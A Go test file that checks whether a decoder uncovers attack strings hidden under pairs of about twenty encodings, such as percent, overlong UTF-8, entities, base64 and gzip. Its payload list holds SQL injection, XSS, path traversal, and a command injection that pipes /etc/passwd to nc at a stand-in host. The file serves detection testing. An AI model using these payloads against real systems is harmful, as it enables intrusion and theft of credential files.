package view_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
)

func perByte(format string) func(string) string {
	return func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, format, s[i])
		}
		return b.String()
	}
}

// perASCII leaves other characters as they are.
func perASCII(format string) func(string) string {
	return func(s string) string {
		var b strings.Builder
		for _, r := range s {
			if r < 0x80 {
				fmt.Fprintf(&b, format, r)
			} else {
				b.WriteRune(r)
			}
		}
		return b.String()
	}
}

var encodings = []struct {
	name   string
	encode func(string) string
}{
	{"percent", perByte("%%%02x")},
	{"%u", perASCII("%%u%04x")},
	{"overlong", func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			if c := s[i]; c < 0x80 {
				fmt.Fprintf(&b, "%%%02x%%%02x", 0xC0|c>>6, 0x80|c&0x3F)
			} else {
				fmt.Fprintf(&b, "%%%02x", c)
			}
		}
		return b.String()
	}},
	{"decimal", perASCII("&#%d;")},
	{"hex entities", perASCII("&#x%x;")},
	{"zeros", perASCII("&#%07d")},
	{"u", perASCII(`\u%04x`)},
	{"x", perASCII(`\x%02x`)},
	{"octal", perASCII(`\%03o`)},
	{"CSS", perASCII(`\%06x`)},
	{"zero width", perASCII("%c\u200b")},
	{"NUL", perASCII("%c\x00")},
	{"full-width", func(s string) string {
		return strings.Map(func(r rune) rune {
			if r > ' ' && r < 0x7F {
				return r + 0xFEE0
			}
			return r
		}, s)
	}},
	{"base64", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
	{"hex", func(s string) string { return hex.EncodeToString([]byte(s)) }},
	{"gzip", func(s string) string { return base64.StdEncoding.EncodeToString(zipped(s)) }},
	{"UTF-16", func(s string) string { return base64.StdEncoding.EncodeToString(utf16le(s)) }},
	{"JSON", func(s string) string {
		b, _ := json.Marshal(map[string]string{"a": s})
		return string(b)
	}},
	{"atob", func(s string) string { return `eval(atob("` + base64.StdEncoding.EncodeToString([]byte(s)) + `"))` }},
	{"form", func(s string) string { return "a=b&c=" + perByte("%%%02x")(s) }},
	{"comment", func(s string) string { return strings.ReplaceAll(s, " ", "/**/") }},
}

// notFound are the pairs that hide a text: octal digits are hexadecimal ones of
// CSS, what CSS has resolved is no SQL, and UTF-16 is not known by NULs alone.
var notFound = map[string]bool{
	"CSS in octal": true, "octal in CSS": true, "comment in CSS": true,
	"NUL in UTF-16":      true,
	"atob in zero width": true, // its + is a blank in the only reading
}

// TestPairs: what is encoded twice, in one way or in two, comes out.
func TestPairs(t *testing.T) {
	payloads := []string{
		"1' union select password from users where id=1", "<img src=x onerror=alert(document.domain)>", "../../../../etc/passwd",
		"; cat /etc/passwd | nc 192.0.2.1 80",
	}
	for _, inner := range encodings {
		for _, outer := range encodings {
			name := inner.name + " in " + outer.name
			t.Run(name, func(t *testing.T) {
				missed := 0
				for _, p := range payloads {
					value := outer.encode(inner.encode(p))
					if !slices.ContainsFunc(seen(value), func(s string) bool { return strings.Contains(bare(s), bare(p)) }) {
						missed++
						if !notFound[name] {
							t.Errorf("%q is not seen in %q", p, value)
						}
					}
				}
				if notFound[name] && missed == 0 {
					t.Error("is found now")
				}
			})
		}
	}
}
